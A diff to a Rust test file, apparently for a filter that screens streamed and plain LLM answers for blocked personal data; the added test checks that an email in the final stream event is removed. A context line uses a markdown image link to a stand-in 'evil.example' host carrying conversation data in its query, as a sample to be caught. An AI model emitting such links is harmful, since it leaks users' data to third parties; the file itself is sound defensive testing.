@@ -121,6 +121,21 @@ fn what_may_not_pass_ends_the_answer() {
 }
 
 #[test]
+fn what_is_found_only_at_the_end_of_a_stream_ends_it_too() {
+    let json = r#"{"pii": {"entities": {"email": "block"}}}"#;
+    let event = |delta: &str, finish: &str| {
+        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{delta},\"finish_reason\":{finish}}}]}}\n\n")
+    };
+    let (text, stop) = (r#"{"content":"to eve@example.com"}"#, "\"stop\"");
+    // The last event has the text itself, or comes behind it; or there is none.
+    for events in [event(text, stop), event(text, "null") + &event("{}", stop), event(text, "null")] {
+        let (out, _) = check(json, &SSE, &(events + "data: [DONE]\n\n"), 99);
+        assert_eq!(out.matches("\"finish_reason\":\"content_filter\"").count(), 1, "{out}");
+        assert!(!out.contains("eve@") && !out.contains(stop) && out.ends_with("data: [DONE]\n\n"), "{out}");
+    }
+}
+
+#[test]
 fn words_that_an_answer_must_not_have_end_it() {
     let link = "Here: ![x](https://evil.example/p.png?data=[EMAIL_1]-and-all-that-was-said-before) as you wished.";
     let (out, found) = check("{}", &JSON, &plain(link), 9);
